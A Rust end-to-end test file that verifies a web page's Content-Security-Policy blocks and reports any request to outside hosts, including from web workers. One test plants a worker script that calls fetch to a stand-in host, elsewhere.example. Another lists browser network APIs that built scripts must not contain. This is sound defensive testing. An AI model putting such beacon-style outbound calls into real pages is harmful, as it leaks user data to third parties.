//! Does the page keep its own rules: nothing from elsewhere, nothing to elsewhere, not even by a worker?

use std::fs;
use std::path::{Path, PathBuf};

use e2e::{Outcome, PREFIX, Page, Screen, Site, dist, visit_in, visit_under};
use serde_json::{Value, json};
use xtask::headers::Headers;

/// What is asked of the host whenever a rule of the page is broken, by the page or by one of its workers.
const REPORT: &str = "broken-rule";

/// What the page's own `_headers` say, and where to tell if something does not keep to them.
fn headers() -> Headers {
    let text = fs::read_to_string(dist().join("_headers")).expect("the build leaves them in dist/");
    Headers::parse(&text).with("Content-Security-Policy", &format!("; report-uri {PREFIX}{REPORT}"))
}

/// Where a browser writes down what it asks of the network.
fn log(name: &str) -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("{name}.json"))
}

/// A browser that reaches nothing but this machine.
async fn walled_in(site: &Site, log: &Path) -> Outcome<Page> {
    let args = [
        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1".to_owned(),
        format!("--log-net-log={}", log.display()),
    ];
    site.newcomer_in(&json!({ "args": args }), Screen::LAPTOP, "").await
}

/// Every address that a page or worker of ours has asked the network for; the browser's own business is not ours.
fn asked(log: &Path, site: &str) -> Outcome<Vec<String>> {
    let origin = site.split('/').take(3).collect::<Vec<_>>().join("/");
    let text = fs::read_to_string(log)?;
    // One event a line.
    let events = text.lines().filter_map(|line| serde_json::from_str(line.trim_end_matches(',')).ok());
    let ours = |event: &Value| event["params"]["initiator"] == *origin;
    let mut found: Vec<String> = events
        .filter(ours)
        .filter_map(|event: Value| Some(event["params"]["url"].as_str()?.to_owned()))
        .collect();
    found.sort();
    found.dedup();
    Ok(found)
}

/// Everything that can be done here, once.
async fn whole_visit(page: &Page) -> Outcome<()> {
    page.find(".figure-box.alive .you-handle:not(.waiting)").await?;
    page.walk_to_the_quiz().await?;
    page.answer_all(|asked| if asked <= 3 { '3' } else { '0' }).await?;
    page.find(".today .in-words p").await?;
    page.enter("[data-screen=result] [data-action=play]").await?;
    page.find("[data-screen=result] [data-value=day]:not([data-day='0'])").await?;
    page.share().await?;
    let link = page.copied_link(true).await?;
    page.enter("[data-action=save-wide]").await?;
    page.text_once(".share-said", |said| said.contains("saved")).await?;
    page.enter("[data-action=qr]").await?;
    page.find("[data-value=qr] svg").await?;
    let (_, code) = link.split_once('#').ok_or("the link has no code")?;
    page.open(&format!("#{code}~{}", code.trim_start_matches("r1."))).await?;
    page.find("[data-part=rest]").await?;
    page.open("#lab").await?;
    page.enter(".parts [data-beat='7']").await?;
    page.text_once("[data-value=status]", |said| said.contains("you:")).await?;
    page.enter("[data-action=play]").await?;
    page.text_once("[data-value=status]", |said| !said.starts_with("day 0:")).await?;
    page.open("how.html").await?;
    page.find("[data-screen=how]").await.map(drop)
}

#[test]
fn a_whole_visit_breaks_no_rule_and_asks_nobody_but_its_own_host() {
    let log = log("whole-visit");
    visit_under("locked", &dist(), headers(), async |site| {
        let page = walled_in(site, &log).await?;
        whole_visit(&page).await?;
        assert_eq!(page.complaints().await?, Vec::<String>::new());
        site.settled().await;
        site.all_leave().await?;
        let broken: Vec<String> =
            site.requests().into_iter().filter(|path| path.starts_with(REPORT)).collect();
        assert_eq!(broken, Vec::<String>::new());
        // The page, its workers and what keeps it for later: whatever they asked, they asked here.
        let asked = asked(&log, &site.address())?;
        assert!(asked.iter().any(|address| address.contains("worker_bg.wasm")), "{asked:?}");
        for address in asked {
            let own = [site.address(), format!("blob:{}", site.address()), "data:".to_owned()];
            assert!(own.iter().any(|start| address.starts_with(start)), "{address} is elsewhere");
        }
        Ok(())
    });
}

/// A copy of the page with a worker in it that tells others.
fn with_a_traitor() -> Outcome<PathBuf> {
    let copy = Path::new(env!("CARGO_TARGET_TMPDIR")).join("traitor");
    fs::create_dir_all(&copy)?;
    for entry in fs::read_dir(dist())? {
        let entry = entry?;
        if entry.file_type()?.is_file() {
            fs::copy(entry.path(), copy.join(entry.file_name()))?;
        }
    }
    fs::write(
        copy.join("traitor.js"),
        "fetch('http://elsewhere.example/told').catch(() => {}).then(() => postMessage(0))",
    )?;
    Ok(copy)
}

/// Has the worker tell, and waits until it has tried.
const TELL: &str = "const done = arguments[0]; const worker = new Worker('traitor.js'); worker.onmessage = () => done(true);";

#[test]
fn whoever_breaks_a_rule_is_noticed() {
    let folder = with_a_traitor().expect("the page can be copied");
    let (open, closed) = (log("traitor-open"), log("traitor-closed"));
    let told = |address: &String| address.contains("elsewhere.example");
    // A plain host's page stops its own scripts but not its workers: the network's log notices those.
    visit_in("traitor-open", &folder, async |site| {
        let page = walled_in(site, &open).await?;
        page.find("html[data-running]").await?;
        page.complaints().await?;
        page.asks("return fetch('http://elsewhere.example/by-the-page').catch(() => {})").await?;
        assert!(page.complaints().await?.iter().any(|said| said.contains("Content Security Policy")));
        page.asks_and_waits(TELL, Vec::new()).await?;
        site.all_leave().await?;
        let asked = asked(&open, &site.address())?;
        assert_eq!(asked.into_iter().filter(told).collect::<Vec<_>>(), ["http://elsewhere.example/told"]);
        Ok(())
    });
    // With the headers nothing gets out, and both are told on.
    visit_under("traitor-closed", &folder, headers(), async |site| {
        let page = walled_in(site, &closed).await?;
        page.find("html[data-running]").await?;
        page.asks("return fetch('http://elsewhere.example/by-the-page').catch(() => {})").await?;
        page.asks_and_waits(TELL, Vec::new()).await?;
        site.settled().await;
        site.all_leave().await?;
        let reports = site.requests().iter().filter(|path| path.starts_with(REPORT)).count();
        assert_eq!(reports, 2, "{:?}", site.requests());
        let asked = asked(&closed, &site.address())?;
        assert_eq!(asked.into_iter().filter(told).count(), 0);
        Ok(())
    });
}

/// Ways out of a browser that a script could know.
const WAYS_OUT: [&str; 7] = [
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "sendBeacon",
    "RTCPeerConnection",
    "WebTransport",
    "importScripts",
];

#[test]
fn no_script_knows_a_way_out() {
    let mut read = 0;
    for entry in fs::read_dir(dist()).expect("the page is built") {
        let path = entry.expect("its files can be listed").path();
        // Two scripts stand in the page.
        if path.extension().is_some_and(|extension| extension == "js") || path.ends_with("index.html") {
            let text = fs::read_to_string(&path).expect("scripts are text");
            let found: Vec<_> = WAYS_OUT.into_iter().filter(|way| text.contains(way)).collect();
            assert_eq!(found, Vec::<&str>::new(), "{}", path.display());
            // Addresses that do not begin here: names of kinds of drawing and nothing else.
            for rest in text.split("://").skip(1) {
                assert!(rest.starts_with("www.w3.org/"), "{}: {rest:.40}", path.display());
            }
            read += 1;
        }
    }
    assert!(read > 9, "{read} files");
}
